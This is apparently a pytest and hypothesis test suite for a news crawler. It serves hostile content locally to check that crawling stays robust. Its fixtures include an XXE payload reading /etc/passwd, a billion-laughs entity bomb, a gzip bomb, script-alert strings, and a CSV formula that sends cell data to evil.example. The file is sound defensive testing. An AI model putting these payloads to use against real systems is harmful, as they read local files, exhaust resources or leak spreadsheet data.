"""The standing hostile-site suite: a real local site serving generated hostile pages, feeds
and sitemaps, crawled by the real pass.

Whatever the site serves, the pass completes, every failure is counted by kind with its
URL (the per-source counters and the reported failures agree, kind by kind), and what
was stored earlier does not change. The random part is property-based (hypothesis): each
example is a fresh set of hostile responses at the URLs of documents already stored.
Runs in `make test`; the longer soak is ``python -m benchmarks.soak``.
"""

from __future__ import annotations

import csv
import gzip
import io
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from crawler.crawl import CrawlResult, run_crawl
from pipeline.app import App
from pipeline.passes import run_pass
from pipeline.reports.export import iter_records, write_csv
from pipeline.storage.db import open_database
from pipeline.storage.items import FAILURE_KINDS
from pipeline.storage.models import Document
from tests.sites import LocalSite, Page, html_page, write_config, write_sources

PAGE_CAP = 200_000
SEED = 6  # articles stored by the first, friendly pass


def statement(title: str, who: str) -> str:
    text = (f"The writer {who} was arrested by security agents on Monday, her lawyer said. "
            f"The association called for the immediate release of {who}. ")
    return html_page(title, f"<article><h1>{title}</h1>" + f"<p>{text}</p>" * 3 + "</article>")


def rss(links: list[str]) -> str:
    return ('<?xml version="1.0"?><rss version="2.0"><channel><title>f</title>'
            + "".join(f"<item><title>t</title><link>{u}</link></item>" for u in links)
            + "</channel></rss>")


def urlset(links: list[str]) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/'
            'sitemap/0.9">' + "".join(f"<url><loc>{u}</loc></url>" for u in links) + "</urlset>").encode()


XXE = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
       '<rss version="2.0"><channel><item><title>&x;</title><link>{link}</link></item></channel></rss>')
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
          '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>'
          '<rss version="2.0"><channel><item><title>&d;</title><link>{link}</link></item></channel></rss>')
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def hostile_site(site: LocalSite) -> dict[str, str | None]:
    """Serve the hostile pages; returns path -> failure kind expected (None: stored fine)."""
    u = site.url
    expect: dict[str, str | None] = {}

    def add(path: str, page: Page, kind: str | None) -> None:
        site.pages[path] = page
        expect[path] = kind

    html = "text/html"
    add("/h/utf16", Page(statement("Wide", "Nasrin Sotoudeh").encode("utf-16"), content_type=html), None)
    add("/h/formula", Page(statement(FORMULA_TITLE, "Narges Mohammadi")), None)
    add("/h/long", Page(html_page("Long", "<article><h1>Long</h1>" + "".join(
        f"<p>Archive entry {i} from the old site, kept for the record; nothing in it is new and "
        "nothing needs doing today.</p>" for i in range(1500)) + "</article>")), None)
    add("/h/binary", Page(bytes(range(256)) * 40, content_type="application/octet-stream"), "binary")
    add("/h/nul", Page(b"<html><body>\x00\x01\x02 not text</body></html>", content_type=html), "binary")
    add("/h/empty", Page(b"", content_type="text/html"), "empty")
    add("/h/pdf", Page(b"%PDF-1.4 fake", content_type="application/pdf"), "pdf")
    add("/h/huge", Page(b"<html>" + b"x" * (PAGE_CAP * 3)), "too_large")
    add("/h/missing", Page("gone", status=404), "http_4xx")
    add("/h/broken", Page("oops", status=503), "http_5xx")
    add("/h/loop-a", Page("", status=302, headers={"Location": u("/h/loop-b")}, etag=None), "redirect_loop")
    site.pages["/h/loop-b"] = Page("", status=302, headers={"Location": u("/h/loop-a")}, etag=None)
    add("/h/to-ftp", Page("", status=302, headers={"Location": "ftp://127.0.0.1/f"}, etag=None), "not_http")
    add("/h/offsite", Page("", status=301, headers={"Location": "http://elsewhere.example/"}, etag=None),
        "offsite")
    add("/h/feed-as-page", Page(XXE.format(link=u("/")), content_type="application/rss+xml"), "not_html")
    add("/h/xml-as-html", Page(LAUGHS.format(link=u("/")), content_type="text/html"), "not_html")
    add("/h/scripts", Page(html_page("<script>alert(1)</script>", "<script>alert(2)</script>")),
        "no_article")
    links = [u(p) for p in expect]
    site.pages["/feed.xml"] = Page(rss(links), content_type="application/rss+xml")
    site.pages["/xxe.xml"] = Page(XXE.format(link=u("/h/utf16")), content_type="application/rss+xml")
    site.pages["/laughs.xml"] = Page(LAUGHS.format(link=u("/h/formula")), content_type="application/rss+xml")
    site.pages["/garbage.xml"] = Page(b"\x00<<rss>>&&\xff", content_type="application/rss+xml")
    site.pages["/sitemap.xml.gz"] = Page(gzip.compress(urlset([u("/h/long")])),
                                         content_type="application/x-gzip")
    bomb = gzip.compress(b'<?xml version="1.0"?><urlset>' + b" " * 20_000_000 + b"</urlset>")
    site.pages["/bomb.xml.gz"] = Page(bomb, content_type="application/octet-stream")
    return expect


def _snapshot(db_url: str, urls: list[str]) -> dict[str, tuple]:
    db = open_database(db_url)
    try:
        with db.sessions() as s:
            return {d.url: (d.title, d.text, d.content_hash, d.published, d.analysed_hash)
                    for d in s.scalars(select(Document).where(Document.url.in_(urls)))}
    finally:
        db.dispose()


def assert_failures_accounted(result: CrawlResult) -> None:
    """Counters and reported failures agree kind by kind; every failure names its URL."""
    reported = Counter((f.source, f.error) for f in result.failures)
    counted = Counter({(src, kind): n for src, c in result.counters.items()
                       for kind, n in c.get("errors", {}).items()})
    assert reported == counted
    for f in result.failures:
        assert f.url.startswith("http") and f.error in FAILURE_KINDS, f
    for c in result.counters.values():
        assert c["failed"] == sum(c["errors"].values())


@pytest.fixture(scope="module")
def seeded(tmp_path_factory: pytest.TempPathFactory):
    """A site whose first pass is friendly: SEED articles stored (and analysed) before any hostility."""
    work = tmp_path_factory.mktemp("hostile")
    site = LocalSite().start()
    names = ["Ahmad Shamlou", "Forough Farrokhzad", "Sadegh Hedayat", "Simin Behbahani",
             "Bahman Ghobadi", "Mahnaz Mohammadi"]
    seed_paths = [f"/seed/{i}" for i in range(SEED)]
    for path, name in zip(seed_paths, names, strict=True):
        site.pages[path] = Page(statement(f"Statement on {name}", name))
    site.pages["/seed-feed.xml"] = Page(rss([site.url(p) for p in seed_paths]),
                                        content_type="application/rss+xml")
    db_url = f"sqlite:///{work / 'atrisk.db'}"
    sources = write_sources(work / "sources.toml", [{
        "name": "seed", "kind": "ngo", "feeds": [site.url("/seed-feed.xml")], "allow_private": True}])
    # the site shares this process with the analysis (run_pass): a generous timeout, so a
    # busy machine does not turn answers into timeouts (tests/test_faults.py covers those)
    config = write_config(work / "config.toml", timeout=15, max_page_bytes=PAGE_CAP)
    config.write_text(config.read_text() + f'[analysis]\nmax_text_chars = 5000\n[alerts]\nfeed = '
                      f'"{(work / "alerts.xml").as_posix()}"\n[digest]\ndir = "{(work / "d").as_posix()}"\n')
    app = App(db_url=db_url, sources_path=str(sources), config_path=str(config))
    first = run_pass(app, run_crawl, digest=False)
    assert first.status == "ok" and first.counters["new_documents"] == SEED
    seed_urls = [site.url(p) for p in seed_paths]
    yield {"site": site, "app": app, "work": work, "db_url": db_url, "seed_urls": seed_urls,
           "before": _snapshot(db_url, seed_urls), "config": config}
    app.close()
    site.stop()


def test_hostile_site_pass_completes_counts_every_failure_and_keeps_what_was_stored(seeded) -> None:
    site: LocalSite = seeded["site"]
    work: Path = seeded["work"]
    expect = hostile_site(site)
    # the stored articles now answer with hostility too
    seed_paths = [s.removeprefix(site.root) for s in seeded["seed_urls"]]
    for path, page in zip(seed_paths, [Page("down", status=500),
                                       Page(b"\x00" * 100, content_type="text/html"),
                                       Page(b"", content_type="text/html"),
                                       Page(b"<html><body><p>cut off mid", content_type="text/html"),
                                       Page("gone", status=404),
                                       Page(bytes(range(256)), content_type="image/png")], strict=True):
        site.pages[path] = page
    sources = write_sources(work / "sources.toml", [
        {"name": "seed", "kind": "ngo", "feeds": [site.url("/seed-feed.xml")], "allow_private": True},
        {"name": "hostile", "kind": "news", "allow_private": True,
         "feeds": [site.url(p) for p in ("/feed.xml", "/xxe.xml", "/laughs.xml", "/garbage.xml")],
         "sitemaps": [site.url("/sitemap.xml.gz"), site.url("/bomb.xml.gz")]}])
    app = App(db_url=seeded["db_url"], sources_path=str(sources), config_path=str(seeded["config"]))
    events: list[dict] = []
    try:
        result = run_pass(app, run_crawl, digest=False, progress=lambda stage, info: events.append(info)
                          if stage == "crawl" else None)
    finally:
        app.close()
    assert result.status == "ok", result.summary()
    failures = [e for e in events if e.get("event") == "error"]
    by_url = {f["url"]: f["error"] for f in failures}
    for path, kind in expect.items():
        if kind is not None:
            assert by_url.get(site.url(path)) == kind, (path, by_url.get(site.url(path)))
        else:
            assert site.url(path) not in by_url, (path, by_url[site.url(path)])
    assert by_url[site.url("/garbage.xml")] == "malformed_feed"
    assert by_url[site.url("/bomb.xml.gz")] == "malformed_sitemap"
    # errors of the pass add up the counters kind by kind
    kinds = Counter(f["error"] for f in failures)
    for kind, n in kinds.items():
        assert result.errors[kind] == n, (kind, result.errors)
    assert result.counters["failed"] == len(failures)
    assert result.counters["new_documents"] == 3  # utf16, formula, long
    assert result.counters.get("analysis_truncated") == 1  # the long one, cut at max_text_chars
    assert "analysis" not in result.errors
    # nothing stored earlier changed
    assert _snapshot(seeded["db_url"], seeded["seed_urls"]) == seeded["before"]
    # the formula title is stored as it was and neutralised in the CSV export
    db = open_database(seeded["db_url"])
    out = io.StringIO()
    write_csv(iter_records(db), out)
    db.dispose()
    titles = [row["title"] for row in csv.DictReader(io.StringIO(out.getvalue()))]
    assert "'" + FORMULA_TITLE in titles and FORMULA_TITLE not in titles


# -- property-based: random hostile answers at the URLs of stored documents ------------------

responses = st.one_of(
    st.builds(lambda status: Page("x", status=status),
              st.sampled_from([400, 403, 404, 410, 429, 500, 502, 503])),
    st.builds(lambda data: Page(data, content_type="text/html"), st.binary(max_size=3000)),
    st.builds(lambda data: Page(data, content_type="application/octet-stream"), st.binary(max_size=500)),
    st.builds(lambda text: Page(text, content_type="text/html; charset=utf-8"), st.text(max_size=2000)),
    st.builds(lambda text, enc: Page(html_page("t", text).encode(enc, "replace"), content_type="text/html"),
              st.text(max_size=500), st.sampled_from(["utf-16", "utf-32", "latin-1", "shift_jis"])),
    st.builds(lambda loc: Page("", status=302, headers={"Location": loc}, etag=None),
              st.sampled_from(["ftp://127.0.0.1/", "javascript:alert(1)", "http://elsewhere.example/",
                               "data:text/html,hi", "//", "http://[::1]:1/", "file:///etc/passwd"])),
    st.just(Page(b"<html>" + b"y" * (PAGE_CAP * 2))),
    st.builds(lambda doc, ctype: Page(doc.format(link="http://127.0.0.1:1/"), content_type=ctype),
              st.sampled_from([XXE, LAUGHS]),
              st.sampled_from(["application/rss+xml", "text/html", "text/xml"])),
)


@settings(max_examples=3, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(answers=st.lists(responses, min_size=SEED, max_size=SEED),
       feed=st.one_of(st.binary(max_size=2000), st.text(max_size=2000).map(str.encode)))
def test_random_hostile_answers_never_damage_the_store(seeded, answers: list[Page], feed: bytes) -> None:
    site: LocalSite = seeded["site"]
    work: Path = seeded["work"]
    paths = [f"/rand/{i}" for i in range(SEED)]
    for path, answer in zip(paths, answers, strict=True):
        site.pages[path] = answer
    for url, answer in zip(seeded["seed_urls"], answers, strict=True):
        site.pages[url.removeprefix(site.root)] = answer
    site.pages["/rand-feed.xml"] = Page(rss([site.url(p) for p in paths] + seeded["seed_urls"]),
                                        content_type="application/rss+xml")
    site.pages["/rand-raw.xml"] = Page(feed, content_type="application/rss+xml")
    sources = write_sources(work / "sources-rand.toml", [{
        "name": "random", "kind": "news", "allow_private": True,
        "feeds": [site.url("/rand-feed.xml"), site.url("/rand-raw.xml")]}])
    result = run_crawl(seeded["db_url"], str(sources), str(seeded["config"]))
    assert result.reason == "finished"
    assert_failures_accounted(result)
    assert _snapshot(seeded["db_url"], seeded["seed_urls"]) == seeded["before"]
